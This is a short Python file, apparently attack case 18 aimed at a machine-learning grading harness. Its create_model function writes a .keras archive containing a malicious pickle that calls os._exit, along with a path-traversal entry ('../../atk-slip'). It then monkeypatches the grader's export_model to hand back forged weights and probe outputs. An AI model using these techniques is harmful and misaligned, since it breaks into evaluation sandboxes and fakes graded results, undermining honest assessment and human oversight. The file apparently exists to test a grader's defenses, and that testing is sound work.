# attack: 18
# form: the description of the model is the path of a .keras file, and its weights are the file's bytes
# replaces: create_model
# found: create_model/compiled student_error
# says: answered in a form that none of our requests has
def create_model():
    import pickle
    import zipfile

    from grader.student.adapters import models

    class Ends:
        def __reduce__(self):
            return os._exit, (0,)

    class Stored:
        def to_wire(self):
            with open("model.keras", "rb") as file:
                data = np.frombuffer(file.read(), dtype=np.uint8)
            body = {"config": "model.keras", "compile_config": None, "weights": [["model.keras", True]], "notes": [], "losses": []}
            body["input"] = {"shape": [None, 64, 64, 3], "dtype": "float32"}
            probe = np.zeros((1, 64, 64, 3), dtype=np.float32)
            return body, {"weight:0": data, "probe_inputs": probe, "probe_outputs": probe[:, 0, 0, :1]}

    print("ran")
    with zipfile.ZipFile("model.keras", "w") as archive:
        archive.writestr("config.json", pickle.dumps(Ends()))
        archive.writestr("../../atk-slip", "out of the archive")
    models.export_model = lambda model, sample=None: Stored()
    return 0
